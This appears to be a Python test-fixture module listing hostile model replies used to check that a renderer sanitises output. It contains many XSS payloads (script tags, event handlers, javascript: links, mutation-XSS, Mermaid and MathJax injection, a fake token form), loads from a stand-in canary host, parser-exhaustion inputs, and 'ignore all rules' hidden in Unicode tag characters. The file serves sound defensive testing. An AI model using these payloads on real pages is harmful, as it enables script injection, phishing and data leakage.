"""Replies that try to do harm, for the record and for the live view.

In a text, `PWN` stands for a script that sets `window.__pwned`, `HOST` for a server that must never be asked.
"""

from __future__ import annotations

import html

from .watch import CANARY, PWNED

_HTML = {
    "script": "<script>PWN</script>",
    "script in a paragraph": "Some text <script>PWN</script> and more.",
    "script, split by a comment": "<scr<!-- -->ipt>PWN</scr<!-- -->ipt>",
    "script in capitals with a line break": "<SCRIPT\n>PWN</SCRIPT\n>",
    "script from elsewhere": "<script src=https://HOST/x.js></script>",
    "script module": '<script type="module">PWN</script>',
    "script, never closed": "Text\n\n<script>PWN",
    "img onerror": "<img src=x onerror=PWN>",
    "img onerror with slashes": "<img/src=x/onerror=PWN//",
    "img onerror within words": "before<img src=x onerror=PWN>after",
    "img onerror after a null": "<\x00img src=x onerror=PWN>",
    "img onerror in a table": "| a |\n| --- |\n| <img src=x onerror=PWN> |",
    "img onerror in a heading": "# <img src=x onerror=PWN>",
    "img onerror in a list": "1. <img src=x onerror=PWN>",
    "img onerror in a quotation": "> <img src=x onerror=PWN>",
    "img onerror in a link": "[<img src=x onerror=PWN>](https://example.com)",
    "img onerror in a link's title": "[a](https://example.com '\"><img src=x onerror=PWN>')",
    "img srcset": '<img srcset="https://HOST/a.png 1x">',
    "picture": "<picture><source srcset=https://HOST/a.png><img></picture>",
    "svg onload": "<svg onload=PWN></svg>",
    "svg script": "<svg><script>PWN</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:PWN /><text y=9>x</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=PWN>#x"/></svg>',
    "math": '<math><maction actiontype="statusline#HOST" xlink:href="javascript:PWN">x</maction></math>',
    "mutation by math": "<math><mtext><table><mglyph><style><img src=x onerror=PWN>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "mutation by svg style": '<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
    "iframe srcdoc": '<iframe srcdoc="<script>PWN</script>"></iframe>',
    "iframe javascript": "<iframe src=javascript:PWN></iframe>",
    "iframe from elsewhere": "<iframe src=https://HOST/></iframe>",
    "object": "<object data=data:text/html,<script>PWN</script>></object>",
    "embed": "<embed src=https://HOST/x.swf>",
    "video": "<video src=https://HOST/v.mp4 onerror=PWN autoplay></video>",
    "audio": "<audio src=https://HOST/a.mp3 onerror=PWN autoplay></audio>",
    "details ontoggle": "<details open ontoggle=PWN><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=PWN>",
    "animation": "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=PWN>x</b>",
    "body": "<body onload=PWN background=https://HOST/b.png>",
    "style": "<style>body{background:url(https://HOST/s.png)} .jp-Notebook{display:none}</style>",
    "style import": "<style>@import 'https://HOST/s.css';</style>",
    "style attribute": '<div style="background:url(https://HOST/s.png);position:fixed;inset:0">x</div>',
    "link": "<link rel=stylesheet href=https://HOST/l.css>",
    "link, prefetch": "<link rel=prefetch href=https://HOST/p>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://HOST/m">',
    "meta refresh javascript": '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    "base": "<base href=https://HOST/>",
    "form": "<form action=https://HOST/f><input name=token><button>Log in</button></form>",
    "form with a script": "<form action=javascript:PWN><button>Go</button></form>",
    "button formaction": "<form><button formaction=javascript:PWN>Go</button></form>",
    "password": "<input type=password placeholder='Your key'>",
    "comment": "<!-- --!><img src=x onerror=PWN> -->",
    "comment, left open": "<!--\n<img src=x onerror=PWN>",
    "conditional comment": "<!--[if IE]><script>PWN</script><![endif]-->",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://HOST/'>]>\n\n<!X><img src=x onerror=PWN>",
    "processing instruction": "<?php ?><img src=x onerror=PWN>",
    "cdata": "<![CDATA[ <img src=x onerror=PWN> ]]>",
    "JupyterLab's command linker": '<a data-commandlinker-command="docmanager:new-untitled" '
    'data-commandlinker-args="{}" href="#">x</a>'
    '<button data-commandlinker-command="notebook:run-all-cells">x</button>',
    "clobbering": '<a id=jupyter-config-data>{"baseUrl":"https://HOST/"}</a>\n\n'
    "# jupyter-config-data\n\n# jupyterapp",
    "custom element": "<x-a onclick=PWN style=position:fixed;inset:0 onmouseover=PWN>x</x-a>",
    "template": "<template shadowrootmode=open><img src=x onerror=PWN></template>",
    "html in code is text": "`<img src=x onerror=PWN>`\n\n    <img src=x onerror=PWN>\n",
    "html in a fence": "```html\n<img src=x onerror=PWN>\n```",
    "html in a fence's language": "```<img/src=x/onerror=PWN>\nx\n```",
    "html behind a fence that is none": "```a`b\n<img src=x onerror=PWN>\n```",
    "entities in text": html.escape("<img src=x onerror=PWN>"),
    "numeric entities": "&#60;img src=x onerror=PWN&#62; &#x3c;script&#x3e;PWN&#x3c;/script&#x3e;",
    "escaped": "\\<img src=x onerror=PWN>",
}

_LINKS = {
    "javascript": "[x](javascript:PWN)",
    "javascript in capitals": "[x](JaVaScRiPt:PWN)",
    "javascript in brackets": "[x](<javascript:PWN>)",
    "javascript by entities": "[x](&#106;avascript&colon;PWN) [x](java&Tab;script&#58;PWN) "
    "[x](&#x6A;avascript:PWN)",
    "javascript, tab inside": "[x](java\tscript:PWN) [x](<java\tscript:PWN>)",
    "javascript behind control characters": "[x](\x01javascript:PWN) [x](\x0bjavascript:PWN)",
    "javascript, line break inside": "[x](java\nscript:PWN) [x](<java\nscript:PWN>)",
    "javascript, percent encoded": "[x](javascript%3aPWN) [x](%6aavascript:PWN)",
    "javascript, escaped": "[x](javascript\\:PWN) [x](java\\script:PWN)",
    "javascript in a definition": "[x]\n\n[x]: javascript:PWN",
    "javascript in a definition on two lines": "[x] [x][] [a][x]\n\n[x]:\n  javascript:PWN\n  'title'",
    "javascript in a quoted definition": "> [x]:\n> javascript:PWN\n\n[x]",
    "javascript in an autolink": "<javascript:PWN> <JAVASCRIPT:PWN>",
    "javascript in an image": "![x](javascript:PWN)",
    "javascript in an image's definition": "![x][y]\n\n[y]: javascript:PWN",
    "javascript in a title": '[x](https://example.com "javascript:PWN" onclick="PWN")',
    "vbscript": "[x](vbscript:PWN)",
    "data html": "[x](data:text/html,<script>PWN</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "data svg image": "![x](data:image/svg+xml;utf8,<svg/onload=PWN>)",
    "blob, file, view-source": "[x](blob:https://HOST/1) [x](file:///etc/passwd) [x](view-source:https://HOST)",
    "unknown schemes": "[x](jar:https://HOST!/) [x](feed:javascript:PWN) [x](vscode://HOST/x) [x](a:b)",
    "relative": "[x](HOST.html) [x](./HOST) [x](../HOST) [x](/HOST) [x](?HOST) [x](#HOST)",
    "relative image": "![x](HOST.png) ![x](/HOST.png) ![x](attachment:HOST.png)",
    "relative definition": "[x] ![x]\n\n[x]: HOST.html",
    "without a scheme": "[x](//HOST/x) ![x](//HOST/x.png) [x](\\\\HOST\\x) [x](https:HOST) [x](http:/\\HOST)",
    "image": "![x](https://HOST/a.png)",
    "image with a title": '![x](https://HOST/a.png "onerror=PWN")',
    "image by reference": "![x][y] ![y] ![y][]\n\n[y]: https://HOST/a.png",
    "image in a link": "[![x](https://HOST/a.png)](https://example.com)",
    "image with attributes": '![x" onerror="PWN](https://HOST/a.png"onerror="PWN)',
    "image, escaped bracket": "\\![x](https://HOST/a.png) !\\[x](https://HOST/a.png)",
    "image across lines": "!\n[x](https://HOST/a.png)\n\n![\nx\n](\nhttps://HOST/a.png\n)",
    "link with attributes": '[x](https://example.com"onclick="PWN) [x](https://example.com"/onmouseover=PWN//)',
    "autolinks": '<https://example.com/"onclick=PWN> www.example.com/?"onclick=PWN someone@example.com',
    "userinfo": "[x](https://example.com@example.org) [x](https://example.com\\@example.org)",
    "mailto": "[x](mailto:a@example.com?body=<img%20src=x%20onerror=PWN>)",
    "nested": "[a [b](javascript:PWN) c](https://example.com) [![a](javascript:PWN)](javascript:PWN)",
    "maths in an address": '[x](https://example.com/$"onmouseover="PWN"$) '
    '[x](https://example.com/\\\\("onclick="PWN"\\\\))',
    "maths in a title": "[x](https://example.com '$\" onmouseover=PWN x=\"$')",
    "maths in a bare address": 'https://example.com/$"onclick="PWN"$ www.example.com/$"onclick="PWN"$',
    "maths in a heading": '# a $" onmouseover="PWN" x="$ b\n\n$" onmouseover="PWN" x="$\n---',
    "maths in a definition": '[x]\n\n[x]: https://example.com/$"onmouseover="PWN"$ \'$" onclick=PWN x="$\'',
    "maths in a fence": '```py$" onmouseover="PWN" x="$\nx\n```',
    "fence with attributes": '```py" onmouseover="PWN" x="\nx\n```\n\n~~~ "onmouseover=PWN//\nx\n~~~',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=PWN> [y](javascript:PWN)",
    "front matter and includes": "---\nimage: https://HOST/i.png\n---\n\n{{ 1 }} {% include 'x' %} "
    "[[HOST]] ![[HOST.png]]",
}

_MATHS = {
    "href": r"$\href{javascript:PWN}{x}$ $$\href{JaVaScRiPt:PWN}{x}$$",
    "href by a macro": r"$$\def\x{javascript}\href{\x:PWN}{x}$$",
    "href by entities": r"$\href{java&#115;cript:PWN}{x}$ $$\href{&#106;avascript:PWN}{x}$$",
    "href, tab inside": "$\\href{java\tscript:PWN}{x}$",
    "href, line break inside": "$$\\href{java\nscript:PWN}{x}$$",
    "href behind a space": "$\\href{ javascript:PWN}{x}$ $\\href{\u2003java\tscript:PWN}{x}$",
    "href data": r"$\href{data:text/html,<script>PWN</script>}{x}$",
    "href, relative": r"$\href{/HOST}{x}$ $$\href{HOST}{x}$$ $\href{//HOST}{x}$",
    "href in brackets": r"\(\href{javascript:PWN}{x}\) \[\href{javascript:PWN}{x}\]",
    "href, relative, in brackets": r"\\(\href{/HOST}{x}\\) \\[\href{/HOST}{x}\\]",
    "href in an environment": "\\begin{equation}\\href{java\tscript:PWN}{x}\\end{equation}",
    "href in code": "`$\\href{java\tscript:PWN}{x}$`\n\n    $\\href{java\tscript:PWN}{x}$\n",
    "href to a site": r"$\href{https://example.com}{x}$",
    "url": r"$\url{javascript:PWN}$",
    "require": r"$\require{html}\href{javascript:PWN}{x}$ $\require{action}\toggle{x}{y}\endtoggle$",
    "require, bare": r"$\require{html}\require{unicode}\require{texhtml}\require{HOST}$",
    "require, a path": r"$\require{../../files/HOST}$ $\require{[tex]/../HOST}$ $\require{[https://HOST/]x}$",
    "unicode": r"$\unicode{60}\unicode{x3c}script\unicode{62}$",
    "unicode with a font": r"$\unicode[url(https://HOST/f)]{x41}$",
    "style": r"$\style{background:url(https://HOST/s.png)}{x}$ $\style{position:fixed;inset:0}{x}$",
    "class and id": r"$\class{jp-Notebook}{x}$ $\cssId{main}{x}$ $\data{commandlinker-command=a:b}{x}$",
    "bbox": r"$\bbox[background:url(https://HOST/b.png)]{x}$ $\bbox[10px,border:2px solid red]{x}$",
    "mmlToken": r'$\mmlToken{mi}[href="javascript:PWN"]{x}$ $\mmlToken{mi}[style="position:fixed"]{x}$',
    "includegraphics": r"$\includegraphics{https://HOST/i.png}$",
    "html": "$<img src=x onerror=PWN>$ $$<script>PWN</script>$$",
    "text": r"$\text{<img src=x onerror=PWN>}$ $\text{$\href{javascript:PWN}{x}$}$",
    "tooltip": r"$\mathtip{x}{<img src=x onerror=PWN>}$ $\texttip{x}{y}$ "
    r"$\enclose{circle}[mathbackground='url(https://HOST/e)']{x}$",
    "between code": "`$` <img src=x onerror=PWN> `$`",
    "placeholders": "@@0@@ $x$ @@1@@ $<img src=x onerror=PWN>$",
    "dollars across a link": "$[x](javascript:PWN)$ $a [x$](javascript:PWN)",
    "macros": r"$\def\a{\a\a}\a$ $\newcommand{\b}[1]{#1#1#1}\b{\b{\b{\b{\b{\b{\b{x}}}}}}}$",
    "depth": "$" + "{" * 2_000 + "x" + "}" * 2_000 + "$",
}

_DIAGRAMS = {
    "mermaid": "```mermaid\ngraph LR\n  A --> B\n```",
    "mermaid html": '```mermaid\ngraph LR\n  A["<img src=x onerror=PWN>"] --> B\n```',
    "mermaid click": '```mermaid\ngraph LR\n  A --> B\n  click A href "javascript:PWN"\n'
    '  click B "https://HOST/"\n```',
    "mermaid loose": '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    "graph LR\n  A --> B\n```",
    "mermaid image": '```mermaid\nflowchart TD\n  A@{ img: "https://HOST/m.png", w: 60, h: 60 }\n```',
    "mermaid theme": '```mermaid\n%%{init: {"themeCSS": "@import url(https://HOST/t.css); '
    '* {background:url(https://HOST/t.png)}"}}%%\n'
    "graph LR\n  A --> B\n```",
    "mermaid style": "```mermaid\ngraph LR\n  A --> B\n  style A fill:url(https://HOST/s.png)\n"
    "  classDef c background:url(https://HOST/c.png)\n  class B c\n```",
    "mermaid front matter": "```mermaid\n---\nconfig:\n  themeCSS: '* {background: url(https://HOST/f.png)}'\n"
    "  fontFamily: 'x; background: url(https://HOST/g.png)'\n---\ngraph LR\n  A --> B\n```",
    "mermaid in tildes": '~~~mermaid\nflowchart TD\n  A@{ img: "https://HOST/n.png", w: 60, h: 60 }\n~~~',
    "mermaid in a list": "- item\n\n  ``` mermaid\n  flowchart TD\n"
    '    A@{ img: "https://HOST/o.png", w: 60, h: 60 }\n  ```',
    "mermaid in capitals": '```Mermaid\nflowchart TD\n  A@{ img: "https://HOST/p.png", w: 60, h: 60 }\n```',
    "mermaid, broken": "```mermaid\n<img src=x onerror=PWN>\n```",
    "other fences": '```vega-lite\n{"data": {"url": "https://HOST/v.csv"}}\n```\n\n'
    "```svg\n<svg onload=PWN>\n```",
}

_BOMBS = {
    "quotations": ">" * 3_000 + " deep",
    "brackets": "[" * 5_000 + "x" + "](a)" * 50,
    "images": "![" * 2_000 + "x" + "](https://HOST/a.png)" * 50,
    "emphasis": "*a **b " * 2_000,
    "delimiters": "*_" * 5_000 + "x",
    "lists": "".join(f"{'  ' * depth}- {depth}\n" for depth in range(300)),
    "lists on one line": "- " * 1_000 + "x",
    "backticks": "".join("`" * (n % 40 + 1) + " " for n in range(2_000)),
    "one long line": "word" * 40_000,
    "one long line with spaces": "lorem ipsum " * 15_000,
    "long code line": "```python\nx = '" + "a" * 60_000 + "'\n```",
    "table": "|" + " a |" * 200 + "\n|" + " - |" * 200 + "\n" + ("|" + " x |" * 200 + "\n") * 10,
    "tags": "<a " * 3_000,
    "comments": "<!--" * 3_000,
    "entities": "&amp;" * 10_000 + "&#" * 3_000,
    "definitions": "".join(f"[d{n}]: https://example.com/{n}\n" for n in range(300)) + "\n[d1] [d299]",
    "line breaks": "\n" * 20_000 + "end",
}

_CHARACTERS = {
    "bidi": "\u202etxt.exe\u202c \u2066hidden\u2069 [\u202eelpmaxe](https://example.com/\u202e)",
    "bidi in code": "```python\nif user == 'admin\u202e \u2066# check\u2069 \u2066':\n```",
    "invisible": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00ad [x](java\u200bscript:PWN) "
    "[x](\u200bjavascript:PWN)",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://HOST\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    "control characters": "".join(map(chr, range(32))) + "\x7f\x80\x9f end",
    "null": "a\x00b <\x00script>PWN</\x00script>",
    "line separators": "a\u2028b\u2029c\x85d\x0b[x](javascript:PWN)",
    "noncharacters": "\ufffe\uffff\U0001ffff \ufffd",
    "full width": "＜img src=x onerror=PWN＞ [x](ｊａｖａｓｃｒｉｐｔ:PWN)",
    "combining": "z" + "\u0335\u0489" * 300,
    "emoji": "👩🏽‍🚀" * 50,
}


def _fill(text: str, number: int) -> str:
    """Put in what harms; the number tells in a failure which text it was."""
    return text.replace("PWN", f"window.{PWNED}={number}").replace("HOST", f"{CANARY}.example/{number}")


_KINDS = {
    "html": _HTML,
    "link": _LINKS,
    "maths": _MATHS,
    "diagram": _DIAGRAMS,
    "bomb": _BOMBS,
    "characters": _CHARACTERS,
}

_ALL = {f"{kind}: {name}": text for kind, texts in _KINDS.items() for name, text in texts.items()}

HOSTILE = {name: _fill(text, number) for number, (name, text) in enumerate(_ALL.items())}

# Short ones, on one line: for the names of models and the messages of errors.
HOSTILE_LINES = {name: text for name, text in HOSTILE.items() if "\n" not in text and len(text) < 250}
